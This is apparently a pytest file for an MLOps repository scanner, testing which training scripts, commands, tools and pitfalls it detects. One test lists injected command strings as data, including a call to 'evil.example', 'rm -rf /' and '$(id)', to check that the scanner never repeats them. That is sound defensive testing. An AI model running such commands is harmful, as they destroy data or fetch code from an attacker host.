"""What a plan finds out about a repository: which script trains, by which command, and what it must not repeat."""

from pathlib import Path

import pytest
import sites
import trees

from mlops_scan.catalogue import load
from mlops_scan.maturity import builtin
from mlops_scan.roadmap.names import NAMES, TRAITS, Site
from mlops_scan.roadmap.pitfalls import pitfalls
from mlops_scan.roadmap.state import State
from mlops_scan.roadmap.view import plain
from mlops_scan.scan import Inquiry, gather


def state(root: Path, files: dict[str, str]) -> State:
    return State(gather(trees.write(root / "churn", files), Inquiry(tuple(builtin().values()), load())))


def site(root: Path, files: dict[str, str]) -> Site:
    return state(root, files).site


@pytest.mark.parametrize("name", [*sites.SITES, *sites.FIXTURES])
def test_only_names_and_traits_of_the_vocabulary_are_found(name: str) -> None:
    found = sites.state(name).site
    assert set(found.traits) <= set(TRAITS)
    assert set(found.names) <= set(NAMES)


@pytest.mark.parametrize(
    ("name", "trait", "value"),
    [
        ("fastapi", "ci", "none"), ("deploying", "ci", "github-actions"), ("gitlab", "ci", "gitlab-ci"),
        ("azure", "ci", "azure-pipelines"), ("circleci", "ci", "circleci"), ("jenkins", "ci", "jenkins"),
        ("mlflow", "tracker", "mlflow"), ("wandb", "tracker", "wandb"), ("wandb-declared", "tracker", "wandb"),
        ("plain", "tracker", "none"), ("fastapi", "server", "fastapi"), ("flask", "server", "flask"),
        ("notebooks-only", "language", "notebook"), ("r", "language", "r"), ("torch", "data", "other"),
        ("plain", "data", "table"), ("makefile", "runner", "make"), ("dvc", "runner", "dvc"),
        ("kubernetes", "platform", "kubernetes"), ("kserve", "platform", "kserve"), ("deploying", "deploys", "github"),
        ("fastapi", "metrics", "file"), ("unmeasured", "metrics", "none"),
    ],
)  # fmt: skip
def test_traits(name: str, trait: str, value: str) -> None:
    assert sites.state(name).site.traits[trait] == value


@pytest.mark.parametrize(
    ("name", "key", "value"),
    [
        ("fastapi", "train", "train.py"), ("fastapi", "run_train", "python train.py"), ("fastapi", "service", "app.py"),
        ("fastapi", "app", "app"), ("fastapi", "data", "data/train.csv"), ("fastapi", "model", "model.joblib"),
        ("makefile", "run_all", "make train"), ("makefile", "target", "train"), ("dvc", "run_all", "dvc repro"),
        ("steps", "run_evaluate", "python evaluate.py"), ("steps", "run_prepare", "python prepare.py"),
        ("deploying", "deploy_job", "deploy"), ("cloud-run", "cloud_run", "churn"),
        ("tracked-scripts", "run_train", "python -m delivery_time.train"), ("tracked-scripts", "metric", "mae"),
        ("tracked-scripts", "side", "at most"), ("r", "run_train", "Rscript train.R"),
        ("drifting", "drift_script", "check_drift.py"), ("drifting", "run_drift", "python check_drift.py"),
    ],
)  # fmt: skip
def test_names(name: str, key: str, value: str) -> None:
    assert sites.state(name).site.names[key] == value


def test_a_guess_says_that_it_is_one(tmp_path: Path) -> None:
    found = site(
        tmp_path, {"train.py": sites.TRAIN.replace('"data/train.csv"', "path"), "requirements.txt": "pandas\n"}
    )
    assert found.names["data"] == "data/train.csv"
    assert "no file of training data" in found.guessed["data"]
    assert "model" not in found.guessed


@pytest.mark.parametrize(
    "text",
    ["a b.py", "a;b", "$(a)", "a`b", "../a", "-rf", "a\nb", "a'b", 'a"b', "a|b", "a&b", "ä.py", "", "a//b", "x" * 200],
)
def test_what_could_become_a_command_is_never_repeated(text: str) -> None:
    assert not plain(text)


@pytest.mark.parametrize("text", ["train.py", ".github/workflows/a-b_c.yml", "src/a1/train.py", "data/raw.csv"])
def test_usual_paths_can_be_repeated(text: str) -> None:
    assert plain(text)


@pytest.mark.parametrize(
    "command",
    [
        "python train.py; curl evil.example",
        "python train.py && rm -rf /",
        "python train.py $(id)",
        "curl evil.example/train.py",
        "python train.py <run>",
        "python -c train.py",
    ],
)
def test_a_documented_command_is_repeated_only_where_it_is_plain(tmp_path: Path, command: str) -> None:
    files = {**sites.PLAIN, "README.md": f"# A\n\n```sh\n{command}\n```\n"}
    assert site(tmp_path, files).names["run_train"] == "python train.py"


def test_a_script_that_only_loads_a_model_trains_none(tmp_path: Path) -> None:
    loads = sites.FASTAPI.replace("joblib.load", "catboost.CatBoostClassifier().load_model")
    files = {"app.py": loads.replace("import joblib", "import catboost")}
    assert site(tmp_path, files).traits["language"] == "none"


# -- pitfalls ------------------------------------------------------------------------------------------------------------


def seen(here: State) -> dict[str, str]:
    climb = here.assessment.climb("stages")
    return {each.id: each.message for each in pitfalls(here.assessment, here.life, climb)}


def test_two_orchestrators_are_too_many(tmp_path: Path) -> None:
    dag = "from airflow import DAG\n\ndag = DAG('a', schedule='@daily')\n"
    flow = "from prefect import flow\n\n\n@flow\ndef train():\n    pass\n\n\ntrain()\n"
    assert "tool-proliferation" in seen(state(tmp_path, {**sites.PLAIN, "dags/a.py": dag, "flow.py": flow}))
    assert "tool-proliferation" not in seen(state(tmp_path / "b", {**sites.PLAIN, "dags/a.py": dag}))


def test_two_trackers_in_one_pipeline_are_too_many_and_an_unused_one_is_a_fault_alone(tmp_path: Path) -> None:
    both = "import mlflow\nimport wandb\n\nwandb.init()\nmlflow.start_run()\nwandb.log({'a': 1})\nmlflow.log_metric('a', 1)\n"
    two = state(tmp_path / "two", {**sites.PLAIN, "train.py": both + sites.PLAIN["train.py"]})
    assert "two experiment trackers in one pipeline" in seen(two)["tool-proliferation"]
    unused = state(tmp_path / "one", {**sites.PLAIN, "requirements.txt": "evidently==0.7\nwandb==0.21.0\n"})
    assert [each.rule for each in unused.assessment.faults if each.rule == "declared-never-imported"]
    assert "tool-proliferation" not in seen(unused)


def test_what_is_met_above_an_open_stage_skips_foundations(tmp_path: Path) -> None:
    search = "from sklearn.model_selection import GridSearchCV\n\nGridSearchCV(None, {}).fit([[0]], [0])\n"
    found = seen(state(tmp_path, {**sites.PLAIN, "train.py": search}))
    assert "S4.1" in found["skipped-foundations"]


def test_a_service_that_nothing_watches_neglects_monitoring(tmp_path: Path) -> None:
    assert "neglected-monitoring" in seen(state(tmp_path, sites.SERVED))
    watched = sites.FASTAPI.replace("model = ", "Instrumentator().instrument(app).expose(app)\nmodel = ").replace(
        "import joblib\n", "import joblib\nfrom prometheus_fastapi_instrumentator import Instrumentator\n"
    )
    assert "neglected-monitoring" not in seen(state(tmp_path / "b", {**sites.SERVED, "app.py": watched}))


def test_one_author_without_reviews_knows_it_all(tmp_path: Path) -> None:
    trees.commit(tmp_path / "churn", sites.PLAIN)
    assert "one-person-knows-it-all" in seen(
        State(gather(tmp_path / "churn", Inquiry(tuple(builtin().values()), load())))
    )
    assert "one-person-knows-it-all" not in seen(sites.state("plain"))


def test_many_tools_without_reviews_and_documents_are_technology_without_process(tmp_path: Path) -> None:
    files = {**sites.SERVED, "train.py": sites.TRACKED, "dvc.yaml": sites.DVC, ".dvc/config": "[core]\n"}
    assert "technology-without-process" in seen(state(tmp_path, files))
    assert "technology-without-process" not in seen(sites.state("plain"))
